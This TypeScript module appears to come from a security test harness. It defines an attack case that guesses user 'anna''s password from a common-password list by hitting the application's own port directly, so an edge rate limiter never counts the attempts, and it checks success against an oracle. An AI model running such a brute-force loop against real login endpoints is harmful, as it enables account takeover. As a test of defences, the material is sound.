import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { attacker, logIn } from '../../attack/attacker.ts'
import { commonPasswords } from '../../attack/common-passwords.ts'

/** Guesses a password at the application's own port, where no edge counts. */
export const bypassDirectGuess: Attack = defineAttack({
  id: 'bypass-direct-guess',
  class: 'edge-bypass',
  title: "Guesses a password at the application's own port, where no edge counts",
  cwe: 420,
  capec: 49,
  technique: 'T1110.001',
  preconditions: ['the port of the application is reachable'],
  slow: true,

  steps: async ({ origin, pause }) => {
    const visitor = origin()
    for (const password of commonPasswords) {
      const answer = await visitor.form('/login', { user: 'anna', password })
      if (answer.status === 303) return (await visitor.get('/account')).text
      await pause(60)
    }
    return ''
  },
  oracle: (text) => text.includes('Anna Lindqvist'),
  twin: async ({ origin }) => {
    const visitor = origin()
    await visitor.form('/login', { user: attacker.user, password: 'trail-mux' })
    return logIn(visitor)
  },
})
